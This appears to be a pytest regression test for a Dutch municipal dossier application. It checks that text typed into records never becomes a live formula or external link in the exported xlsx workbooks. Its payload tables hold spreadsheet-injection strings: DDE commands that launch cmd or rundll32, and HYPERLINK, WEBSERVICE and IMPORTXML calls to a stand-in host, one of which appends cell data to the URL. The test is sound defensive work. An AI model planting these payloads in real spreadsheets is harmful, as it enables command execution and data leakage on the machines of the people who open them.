"""Text that looks like a formula, in every text field of a dossier: no workbook makes it live.

Two dossiers with the same records and amounts are exported, one with plain texts and one with
payloads. Whatever stands in the texts, both workbooks have exactly the same formulas and links.
"""

from __future__ import annotations

import re
import zipfile
from collections import Counter
from itertools import cycle, islice, product
from typing import TYPE_CHECKING, Any
from xml.etree import ElementTree as ET

import pytest

from nplv_desktop.domain.fields import fields_of
from nplv_desktop.domain.financiering import Besteding
from nplv_desktop.domain.indicatoren import Meting
from nplv_desktop.domain.interventies import Cofinanciering, Interventie, Resultaat
from nplv_desktop.domain.plan import Doel, Investeringsopgave, Opgave, Partner
from nplv_desktop.domain.values import new_key
from nplv_desktop.services import dossiers, exporting

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from nplv_desktop.domain.base import Record
    from nplv_desktop.store.database import Database

STARTS = (
    *("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "＝", "＋", "－", "＠", "'=", '"='),
    *("{=", "==", "=+", "-+", ";=", ",=", "%0A=", "\u200b=", "\ufeff=", "(="),
)
CORES = (
    "1+1", "SUM(A1:A9)", 'HYPERLINK("http://x.example/?"&A1,"klik")', "cmd|' /C calc'!A0",
    'WEBSERVICE("http://x.example")', "'file:///C:/x.xlsx'#$Blad1.A1", "[x.xlsx]Blad1!A1",
    'IMPORTXML("http://x.example","//a")', 'DDE("a";"b";"c")', "_xlfn.CONCAT(A1)",
    "A1", "2+5+cmd|' /C notepad'!'A1'", "rundll32|'x'!A", 'INDIRECT("A1")', "NOW()",
    "</t></is></c><c><f>1+1</f></c>", "_x003D_1+1", "TRUE", "1E9", "#REF!",
)  # fmt: skip
PAYLOADS = [start + core for start, core in product(STARTS, CORES)]
SHORT = 60
MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
FIXED: dict[type[Record], dict[str, Any]] = {
    Interventie: {"status": "loopt", "onderbouwing": "onbekend", "actielijn": None},
    Besteding: {
        "datum": "2024-05-01",
        "boekjaar": 2024,
        "bedrag": 100,
        "geldstroom_code": "KW1-SO",
        "taakveld": None,
        "interventie_id": "",
    },
    Cofinanciering: {"boekjaar": 2024, "soort": "fonds", "bedrag": 5, "interventie_id": ""},
    Resultaat: {
        "boekjaar": 2024,
        "grootheid": "eigen",
        "gerealiseerd": 3,
        "interventie_id": "",
    },
    Doel: {"pijler": None, "actielijn": None},
    Opgave: {"doel_id": None},
    Partner: {"ondertekend_op": None},
    Investeringsopgave: {"pijler": "sociaal", "van": 2024, "tot": 2025, "nodig": 100},
    Meting: {"indicator_code": "K01", "peildatum": None, "waarde": "1.5"},
}
"""What else a record needs, by its class; empty means the key of its interventie."""


def texts_of(record: type[Record]) -> list[str]:
    """The columns of a record in which people type."""
    kinds = {"text", "longtext", "code"}
    fixed = FIXED[record]
    return [
        field.key
        for field in fields_of(record)
        if field.kind in kinds and not field.choices and not field.target and field.key not in fixed
    ]


def filled(db: Database, payloads: list[str]) -> int:
    """One record of each kind per payload, with it in every text field; returns how many places."""
    places, owners = 0, [new_key() for _ in payloads]
    with db.change("Vullen") as session:
        for record, fixed in FIXED.items():
            texts = texts_of(record)
            rows = [
                {
                    "id": owners[at] if record is Interventie else new_key(),
                    **{k: owners[at] if v == "" else v for k, v in fixed.items()},
                    **{name: f"{payload}{at}" if name == "code" else payload for name in texts},
                    **(
                        {"peiljaar": 2024, "gebied": "", "uitsplitsing": f"{at}{payload}"}
                        if record is Meting
                        else {}
                    ),
                }
                for at, payload in enumerate(payloads)
            ]
            columns = list(rows[0])
            session.insert_many(record, columns, [[row[c] for c in columns] for row in rows])
            places += len(rows) * len(texts)
        about = session.get(type(dossiers.dossier(db)), dossiers.dossier(db).id)
        for name in ("bureau", "contact_functie", "samenvatting", "verklaring"):
            setattr(about, name, payloads[0])
    return places


@pytest.fixture
def exported(tmp_path: Path) -> Callable[[list[str]], tuple[list[Path], int]]:
    """Exports both workbooks of a dossier full of these texts."""

    def export(payloads: list[str]) -> tuple[list[Path], int]:
        place = tmp_path / f"{len(list(tmp_path.iterdir()))}.nplv"
        db = dossiers.create(place, "FG10")
        try:
            places = filled(db, payloads)
            books = []
            for soort in ("verantwoording", "aanvraag"):
                book = place.with_name(f"{place.stem}-{soort}.xlsx")
                exporting.export(db, soort, 2024, book, concept=True)
                books.append(book)
            return books, places
        finally:
            db.close()

    return export


def live(book: Path) -> Counter[str]:
    """Everything in a workbook that a reader acts upon: formulas, links, parts that reach out."""
    found: Counter[str] = Counter()
    with zipfile.ZipFile(book) as package:
        for name in package.namelist():
            content = package.read(name)
            if name.startswith("xl/worksheets/sheet"):
                root = ET.fromstring(content)
                found.update(f"{name} {cell.text}" for cell in root.iter(f"{MAIN}f"))
            found.update((re.findall(rb"TargetMode=.External", content) and ["external"]) or [])
            found.update(["ddeLink"] if b"ddeLink" in content else [])
    return found


def shown(book: Path) -> Iterator[str]:
    with zipfile.ZipFile(book) as package:
        for name in package.namelist():
            if name.startswith(("xl/worksheets/sheet", "xl/sharedStrings")):
                root = ET.fromstring(package.read(name))
                yield from (cell.text or "" for cell in root.iter(f"{MAIN}t"))


def nothing_lives(
    exported: Callable[[list[str]], tuple[list[Path], int]], payloads: list[str]
) -> None:
    bad, places = exported(payloads)
    plain, same = exported(list(islice(cycle(["tekst"]), len(payloads))))
    assert places == same >= len(payloads) * 20
    for hostile, honest in zip(bad, plain, strict=True):
        assert live(hostile) == live(honest)
    assert any(text.startswith("=1+1") for text in shown(bad[0])), "the payload is there, as text"


def test_no_text_becomes_a_formula(
    exported: Callable[[list[str]], tuple[list[Path], int]],
) -> None:
    nothing_lives(exported, PAYLOADS[:: len(PAYLOADS) // SHORT])


@pytest.mark.slow
@pytest.mark.timeout(1200)
def test_no_text_becomes_a_formula_long(
    exported: Callable[[list[str]], tuple[list[Path], int]],
) -> None:
    assert len(PAYLOADS) == 500
    nothing_lives(exported, PAYLOADS)
